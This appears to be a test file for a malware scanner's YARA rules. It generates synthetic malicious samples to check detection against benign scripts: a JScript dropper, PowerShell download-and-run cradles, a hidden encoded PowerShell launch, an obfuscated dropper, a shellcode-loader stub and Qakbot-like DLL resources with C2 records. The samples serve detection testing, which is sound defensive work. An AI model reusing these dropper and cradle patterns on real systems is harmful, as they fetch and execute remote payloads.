import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { defaultConfig } from '../src/config.ts';
import { analyzeSubmission } from '../src/engine/submission.ts';
import { peAnalyzer } from '../src/analyzers/pe/index.ts';
import { yaraAnalyzer } from '../src/analyzers/yara/index.ts';
import { loadRuleSet, RuleSetError } from '../src/analyzers/yara/ruleset.ts';
import { YaraService } from '../src/analyzers/yara/service.ts';
import { buildReport } from '../src/verdict/report.ts';
import { buildPe, codeLikeBytes } from './generators/pe.ts';
import { c2Records, configText, encryptQakbotBlob } from './generators/pe-qakbot.ts';
import { runAnalyzer } from './generators/pe-run.ts';

const utf8 = (s: string) => new TextEncoder().encode(s);
const utf16 = (s: string) => new Uint8Array(Buffer.from(s, 'utf16le'));

const yara = new YaraService();
after(() => yara.close());

const rulesHit = async (data: Uint8Array) => (await yara.scan(data)).map((m) => m.rule).sort();

/** A WSH dropper in the shape of the Qakbot chain's .js stage, with light string splitting. */
function jscriptDropper(url: string): string {
  return [
    'var a = "WScr" + "ipt.Shell";',
    'var sh = new ActiveXObject("WScript.Shell");',
    'var x = new ActiveXObject("MSXML2.XMLHTTP");',
    `x.open("GET", "${url}", false); x.send();`,
    'var st = new ActiveXObject("ADODB.Stream"); st.Type = 1; st.Open(); st.Write(x.responseBody);',
    'var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\inv.dll";',
    'st.SaveToFile(p, 2); st.Close();',
    'sh.Run("rundll32 " + p + ",Run", 0);',
  ].join('\n');
}

function powershellCradle(urls: string[]): string {
  return [
    `$urls = '${urls.join(',')}'.Split(',');`,
    "$out = \"$env:TEMP\\x.dat\";",
    'foreach ($u in $urls) { try { (New-Object Net.WebClient).DownloadFile($u, $out); break } catch {} }',
    'Start-Process rundll32.exe -ArgumentList "$out,Wind";',
  ].join('\n');
}

const BENIGN_JS = `(function (global) {
  'use strict';
  function debounce(fn, ms) { var t; return function () { clearTimeout(t); t = setTimeout(fn, ms); }; }
  var xhr = new XMLHttpRequest(); xhr.open('GET', '/api/items'); xhr.send();
  global.ui = { debounce: debounce, run: function () { document.body.classList.add('ready'); } };
})(window);`;

const BENIGN_PS = `# Nightly report: collect disk usage and mail it
$drives = Get-PSDrive -PSProvider FileSystem
$report = $drives | Select-Object Name, Used, Free | ConvertTo-Html
Send-MailMessage -To 'ops@example.com' -Subject 'Disk report' -Body ($report | Out-String) -BodyAsHtml
Invoke-WebRequest -Uri 'https://intranet.example.com/health' -UseBasicParsing | Out-Null`;

const BENIGN_MAIL = `Hi team, reminder: the PowerShell training is on Friday. We will cover Get-ChildItem,
Start-Process and how to read an execution policy. Bring a laptop. -- IT`;

test('every rule file compiles once and declares its finding', async () => {
  await yara.open();
  const set = loadRuleSet();
  const ids = Object.keys(set.catalogue);
  assert.ok(ids.length >= 8, ids.join(','));
  for (const id of ids) {
    assert.ok(id.startsWith('yara.TB_'), id);
    assert.ok(set.catalogue[id]!.title.length > 10);
    assert.ok(set.catalogue[id]!.attack.every((t) => /^T\d{4}(\.\d{3})?$/.test(t)), id);
  }
  assert.deepEqual(yaraAnalyzer.findings, set.catalogue);
});

test('JScript dropper rules match a generated dropper, not an ordinary web script', async () => {
  assert.deepEqual(await rulesHit(utf8(jscriptDropper('http://198.51.100.7/inv/x.dat'))), ['TB_WSH_Download_And_Save', 'TB_WSH_Script_Host_Object', 'TB_WSH_Shell_Run', 'TB_WSH_Temp_Payload_Path']);
  assert.deepEqual(await rulesHit(utf8(BENIGN_JS)), []);
});

test('PowerShell cradle rules match ASCII and UTF-16LE cradles and the encoded launch, not an admin script', async () => {
  const cradle = powershellCradle(['http://203.0.113.5/a.dat', 'http://203.0.113.6/b.dat']);
  const expected = ['TB_PowerShell_Download_Execute', 'TB_PowerShell_Download_Run_DLL'];
  assert.deepEqual(await rulesHit(utf8(cradle)), expected);
  assert.deepEqual(await rulesHit(utf16(cradle)), expected, 'decoded -EncodedCommand text is UTF-16LE');
  assert.deepEqual(await rulesHit(utf8("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')")), ['TB_PowerShell_Download_Execute']);
  const encoded = Buffer.from(cradle, 'utf16le').toString('base64');
  assert.deepEqual(await rulesHit(utf8(`powershell.exe -NoP -w hidden -enc ${encoded}`)), ['TB_PowerShell_Encoded_Hidden_Launch']);
  assert.deepEqual(await rulesHit(utf8(BENIGN_PS)), []);
  assert.deepEqual(await rulesHit(utf8(BENIGN_MAIL)), []);
});

test('Qakbot rules match a generated Qakbot DLL by resource names, not an ordinary DLL', async () => {
  const dll = buildPe({
    resources: [
      { type: 10, name: 'BABA', data: encryptQakbotBlob(configText([['10', 'BB12'], ['3', '1660000000']]), 'powershel1-path') },
      { type: 10, name: 'EBBA', data: encryptQakbotBlob(c2Records([{ ip: '192.0.2.44', port: 443 }]), 'powershel1-path') },
    ],
  });
  assert.deepEqual(await rulesHit(dll), ['TB_Qakbot_Config_Resource_Names']);
  const ordinary = buildPe({ exports: { dllName: 'util.dll', names: ['Init'] }, resources: [{ type: 10, name: 'DATA', data: codeLikeBytes(500) }] });
  assert.deepEqual(await rulesHit(ordinary), []);
  assert.deepEqual(await rulesHit(utf16('key: \\System32\\WindowsPowerShel1\\v1.0\\powershel1.exe')), ['TB_Qakbot_Key_Strings']);
  assert.deepEqual(await rulesHit(utf16('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe')), [], 'the real path is not a sign');
});

/** String-splitting obfuscation as 2015-2016 droppers did it: fragments, hex escapes, charAt picks. */
function obfuscatedDropper(): string {
  const split = (word: string) => word.match(/.{1,2}/g)!.map((p) => `"${p}"`).join('+');
  const hex = (word: string) => `"${[...word].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"`;
  return [
    'var w = this["WScript"];',
    `var sh = w[${split('CreateObject')}](${split('WScript.Shell')});`,
    `var u = ${hex('http://198.51.100.23/counter/?id=')} + "abc".charAt(1) + "xyz".charAt(0);`,
    `var x = w[${split('CreateObject')}](${split('MSXML2.XMLHTTP')});`,
    `sh[${split('Run')}](${split('cmd.exe /c ping 127.0.0.1')}, 0);`,
  ].join('\n');
}

const SHELLCODE_LOADER = `$c = '[DllImport("kernel32.dll")]public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")]public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);';
$w = Add-Type -memberDefinition $c -Name "W" -namespace Win32 -passthru;
[Byte[]]$z = ${Array.from({ length: 40 }, (_, i) => `0x${((i * 37) & 0xff).toString(16).padStart(2, '0')}`).join(',')};
$x = $w::VirtualAlloc(0, 0x1000, 0x3000, 0x40);`;

test('WSH host-object and obfuscation rules match an obfuscated dropper; web libraries stay clean', async () => {
  assert.deepEqual(await rulesHit(utf8(obfuscatedDropper())), ['TB_WSH_Obfuscated_Strings', 'TB_WSH_Script_Host_Object']);
  const minifiedLib = `!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t;var x=window.ActiveXObject?new ActiveXObject("Microsoft.XMLHTTP"):new XMLHttpRequest;x.open("GET","/a"+"/b")}([]);`;
  assert.deepEqual(await rulesHit(utf8(minifiedLib)), [], 'IE-era XMLHTTP fallback is not a dropper');
});

test('PowerShell shellcode loader rule matches the P/Invoke loader shape, not Add-Type for a UI helper', async () => {
  assert.deepEqual(await rulesHit(utf8(SHELLCODE_LOADER)), ['TB_PowerShell_Shellcode_Injection']);
  assert.deepEqual(await rulesHit(utf16(SHELLCODE_LOADER)), ['TB_PowerShell_Shellcode_Injection']);
  const uiHelper = `Add-Type -AssemblyName System.Windows.Forms
Add-Type @'
using System; using System.Runtime.InteropServices;
public class Win { [DllImport("user32.dll")] public static extern bool SetForegroundWindow(IntPtr h); }
'@
[Win]::SetForegroundWindow((Get-Process notepad).MainWindowHandle)`;
  assert.deepEqual(await rulesHit(utf8(uiHelper)), []);
});

test('the analyzer turns matches into findings with the matched strings as evidence, and honours yaraScanBytes', async () => {
  const r = await runAnalyzer(yaraAnalyzer, utf8(jscriptDropper('http://198.51.100.7/x')), 'invoice.js', { yara }, 'jscript');
  const hit = r.findings?.find((f) => f.id === 'yara.TB_WSH_Download_And_Save');
  assert.match(hit?.evidence ?? '', /ADODB\.Stream/);
  assert.deepEqual(r.facts?.yara, ['TB_WSH_Shell_Run', 'TB_WSH_Download_And_Save', 'TB_WSH_Temp_Payload_Path', 'TB_WSH_Script_Host_Object'], 'the "WScr" + "ipt" split counts too');

  const padded = new Uint8Array(3 * 1024 * 1024);
  padded.set(utf8(jscriptDropper('http://198.51.100.7/x')), 2 * 1024 * 1024);
  const config = defaultConfig();
  config.limits.yaraScanBytes = 1024 * 1024;
  const run = await analyzeSubmission({ name: 'padded.js', data: padded }, { config, analyzers: [yaraAnalyzer], services: { yara } });
  const report = buildReport(run);
  assert.ok(report.limits.some((l) => l.limit === 'yaraScanBytes'));
  assert.ok(!report.findings.some((f) => f.id.startsWith('yara.')), 'bytes past the limit are not scanned');
});

test('engine run: a Qakbot DLL gets PE and YARA findings side by side', async () => {
  const dll = buildPe({
    resources: [
      { type: 10, name: '26F517AB', data: encryptQakbotBlob(c2Records([{ ip: '192.0.2.10', port: 2222 }]), 'two-layer-muhcu') },
      { type: 10, name: '18270D2E', data: encryptQakbotBlob(configText([['10', 'obama210']]), 'two-layer-muhcu') },
    ],
  });
  const run = await analyzeSubmission({ name: 'q.dll', data: dll }, { config: defaultConfig(), analyzers: [peAnalyzer, yaraAnalyzer], services: { yara } });
  const ids = buildReport(run).findings.map((f) => f.id);
  for (const id of ['pe.qakbot.config', 'pe.qakbot.c2-list', 'yara.TB_Qakbot_Config_Resource_Names']) assert.ok(ids.includes(id), id);
});

test('a rule that does not compile names its file and line', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'tb-yara-'));
  try {
    writeFileSync(join(dir, 'a.yar'), 'rule Ok_One { meta: title = "fine rule here" score = 1 condition: true }\n');
    writeFileSync(join(dir, 'b.yar'), '\n\nrule Broken { meta: title = "broken rule" score = 1\n strings: $a = "x"\n condition: $b }\n');
    const bad = new YaraService(loadRuleSet(dir));
    await assert.rejects(bad.open(), (err: Error) => err instanceof RuleSetError && /b\.yar line \d+: undefined string "\$b"/.test(err.message));
    await bad.close();
    writeFileSync(join(dir, 'c.yar'), 'rule No_Meta { condition: true }\n');
    assert.throws(() => loadRuleSet(dir), /No_Meta needs meta title and score/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the worker is replaced when its heap grows and after an abandoned scan; scans keep working', async () => {
  const service = new YaraService(loadRuleSet(), { recycleHeapBytes: 1 });
  try {
    for (let i = 0; i < 3; i++) assert.deepEqual((await service.scan(utf8(BENIGN_JS))).length, 0);
    assert.ok(service.started >= 3, `workers started: ${service.started}`);
    const controller = new AbortController();
    controller.abort(new Error('time is up'));
    await assert.rejects(service.scan(utf8(BENIGN_JS), controller.signal), /time is up/);
    assert.equal((await service.scan(utf8(jscriptDropper('http://x.example/a')))).length, 4);
  } finally {
    await service.close();
  }
});
